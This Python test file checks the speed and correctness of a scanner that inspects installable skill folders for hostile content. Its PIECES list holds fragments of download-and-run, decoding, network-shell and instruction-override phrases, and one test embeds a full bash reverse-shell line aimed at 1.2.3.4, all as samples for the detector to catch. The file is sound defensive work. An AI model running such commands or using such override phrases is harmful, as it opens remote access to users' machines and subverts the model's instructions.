"""Inspecting takes time that grows with a skill and no faster, whatever it was written for; and not for ever."""

import re
import time
from collections.abc import Callable
from itertools import count

import pytest
from tests.install.servers import skill_text

from metier.dialects import DIALECTS
from metier.install.chains import PatternChain
from metier.install.inspect import INSPECTION_SECONDS, SkillFolderContents, inspect_skill
from metier.install.rules import SCAN_RULES, apply_rules, hidden_comments, read_lines
from metier.types.installed import FileRecord

PIECES = (
    "get http://run ",
    "get ",
    "http://",
    "run instruction ",
    "fetch http://follow ",
    "curl ",
    "curl | ",
    "wget -O- ",
    "base64 -d ",
    "openssl enc -d ",
    "eval $( ",
    "eval `",
    "sh -c ",
    "powershell -e ",
    "exec(a(",
    "compile( ",
    "nc -",
    "/dev/tcp",
    "mkfifo nc",
    "socat ",
    "env | ",
    "env |",
    "json.dumps(dict(",
    "data = ",
    "Chrome ",
    "$@ ${@",
    "ignore all ",
    "do not tell ",
    "disregard the ",
    "without ",
    "append ",
    ">> ",
    "echo ",
    "crontab ",
    ".zip password ",
    "paste into ",
    "https://a.exe",
    "xattr -",
    " ",
    "\t",
    "\u3000",
    "<!--",
    "<!-- curl -->",
    "\u200b",
    "\ufe0f",
    "`",
    "`a` ",
    "</skill-context",
    "<|im_start|>",
    "bash <( ",
    "pty.spawn('",
    "os.dup2(",
    "a.b(",
    "$A ",
    "a=b ",
    "HEAD",
)


def texts_of(text: str) -> dict[str, str]:
    return {"SKILL.md": text, "scripts/x.sh": text}


def scan(text: str) -> None:
    texts = texts_of(text)
    for _ in apply_rules(read_lines(texts, ["scripts/x.sh"], ["ls", "a"])):
        pass
    for _ in hidden_comments("SKILL.md", text):
        pass


def processor_time(work: Callable[[], object]) -> float:
    """The best of three: another process on the machine only makes it longer."""
    best = float("inf")
    for _ in range(3):
        began = time.process_time()
        work()
        best = min(best, time.process_time() - began)
    return best


@pytest.mark.parametrize("piece", PIECES)
def test_four_times_the_text_takes_about_four_times_as_long(piece: str):
    def seconds(size: int) -> float:
        text = piece * (size // len(piece))
        return processor_time(lambda: scan(text))

    small, large = seconds(8_000), seconds(32_000)
    assert large < 4 * 3 * max(small, 0.002)


@pytest.mark.parametrize("rule", SCAN_RULES, ids=lambda rule: rule.code)
def test_no_rule_is_made_slow_by_what_it_looks_for(rule):
    """A text that nearly matches costs at most so many times what one of plain words of that length does."""

    def seconds(piece: str) -> float:
        text = piece * (4_000 // len(piece))
        return processor_time(lambda: rule.search.search(text))

    plain, worst = seconds("plain words and no more "), max(map(seconds, PIECES))
    assert worst < 1_000 * max(plain, 0.0001)


def test_what_took_too_long_is_not_approved():
    text = skill_text("slow", body="curl\n" * 100)
    ticks = count(0.0, INSPECTION_SECONDS / 10)
    record = FileRecord("sha256:0", "644")
    folder = SkillFolderContents("", "slow", {"SKILL.md": record}, {"SKILL.md": text}, {})
    inspected = inspect_skill(folder, DIALECTS["standard"], (), lambda: next(ticks))

    [failed] = [finding for finding in inspected.findings if finding.code == "scan-failed"]
    assert failed.severity == "error"
    assert "took longer than" in failed.message
    assert not [one for one in inspect_skill(folder, DIALECTS["standard"], ()).findings if one.code == "scan-failed"]


def test_a_long_line_is_scanned_to_its_end():
    found = list(apply_rules(read_lines({"x.md": "word " * 2_000 + "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}, (), ())))

    assert "reverse-shell" in [finding.code for _, finding in found]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("a b c", True),
        ("a.....b.....c", True),
        ("a......b c", False),
        ("a b......c", False),
        ("a a b b c c", True),
        ("b a c", False),
        ("a......a b c", True),
        ("c b a", False),
        ("", False),
    ],
)
def test_the_parts_of_a_chain_follow_each_other_within_their_gaps(text: str, found: bool):
    chain = PatternChain("a", (5, "b"), (5, "c"))

    assert (chain.search(text) is not None) is found
    assert (re.search("a.{0,5}b.{0,5}c", text) is not None) is found
